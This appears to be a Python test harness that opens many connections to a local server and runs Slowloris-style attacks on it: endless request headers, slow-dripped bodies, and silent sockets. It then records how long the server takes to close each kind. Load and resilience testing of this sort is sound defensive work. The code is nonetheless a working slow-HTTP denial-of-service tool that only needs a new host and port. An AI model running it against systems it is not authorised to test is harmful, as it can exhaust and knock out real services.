"""Those who besiege a front: they come, send a little now and then, and are watched till they go.

Slowloris sends a head that never ends, its later forms a body that never does.
"""

import asyncio
import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from enum import StrEnum
from typing import Final, cast

_TOGETHER: Final = 100  # that connect at once: more than a backlog would be turned away by it
_BODY_BYTES: Final = 100_000


class Kind(StrEnum):
    """What they hold back."""

    HEAD = "half heads"
    BODY = "slow bodies"
    ALL = "silent"


BEGINNINGS: Final[Mapping[Kind, bytes]] = {
    Kind.HEAD: b"POST /api/generate HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
    Kind.BODY: b"POST /api/generate HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n{"
    % _BODY_BYTES,
    Kind.ALL: b"",
}


@dataclass(frozen=True, slots=True)
class Held:
    """What became of one kind: how many came, how many were closed, the last after how long."""

    kind: Kind
    came: int
    closed: int
    last_s: float


@dataclass
class Forces:
    """All that besiege one front; `pause_s` is between two bytes of each."""

    host: str
    port: int
    pause_s: float = 2.0
    _here: "list[_Besieger]" = field(default_factory=list)

    async def come(self, numbers: Mapping[Kind, int]) -> None:
        """Have so many of each kind connect."""
        loop = asyncio.get_running_loop()
        kinds = [kind for kind, number in numbers.items() for _ in range(number)]
        for at in range(0, len(kinds), _TOGETHER):
            connecting = (
                loop.create_connection(_maker(kind), self.host, self.port)
                for kind in kinds[at : at + _TOGETHER]
            )
            self._here += [besieger for _, besieger in await asyncio.gather(*connecting)]

    async def stay(self, seconds: float) -> tuple[Held, ...]:
        """Have them send their bytes, at most so long; what became of each kind."""
        until_s = time.monotonic() + seconds
        while time.monotonic() < until_s and any(b.gone_s is None for b in self._here):
            for besieger in self._here:
                besieger.drip()
            await asyncio.sleep(self.pause_s)
        return tuple(self._held(kind) for kind in Kind)

    def leave(self) -> None:
        """Have those who are left go."""
        for besieger in self._here:
            besieger.leave()

    def _held(self, kind: Kind) -> Held:
        these = [besieger for besieger in self._here if besieger.kind is kind]
        stays_s = [b.gone_s - b.came_s for b in these if b.gone_s is not None]
        return Held(kind, len(these), len(stays_s), round(max(stays_s, default=0.0), 1))


class _Besieger(asyncio.Protocol):
    """One of them."""

    def __init__(self, kind: Kind) -> None:
        self.kind = kind
        self.came_s = time.monotonic()
        self.gone_s: float | None = None
        self._transport: asyncio.WriteTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Begin what will not end."""
        self._transport = cast("asyncio.WriteTransport", transport)  # uvloop's are none by class
        self._transport.write(BEGINNINGS[self.kind])

    def drip(self) -> None:
        """Send a byte more."""
        if self._transport is not None and self.kind is not Kind.ALL:
            self._transport.write(b"x")

    def eof_received(self) -> None:
        """The front has said its last word."""
        self.gone_s = self.gone_s or time.monotonic()

    def connection_lost(self, _exc: Exception | None) -> None:
        """It is over."""
        self.gone_s = self.gone_s or time.monotonic()
        self._transport = None

    def leave(self) -> None:
        """Go."""
        if self._transport is not None:
            self._transport.abort()


def besieged(
    where: tuple[str, int], numbers: Mapping[Kind, int], seconds: float
) -> tuple[Held, ...]:
    """Besiege a front on a loop of one's own: what became of each kind."""

    async def siege() -> tuple[Held, ...]:
        forces = Forces(*where)
        try:
            await forces.come(numbers)
            return await forces.stay(seconds)
        finally:
            forces.leave()

    return asyncio.run(siege())


def _maker(kind: Kind) -> Callable[[], _Besieger]:
    return lambda: _Besieger(kind)
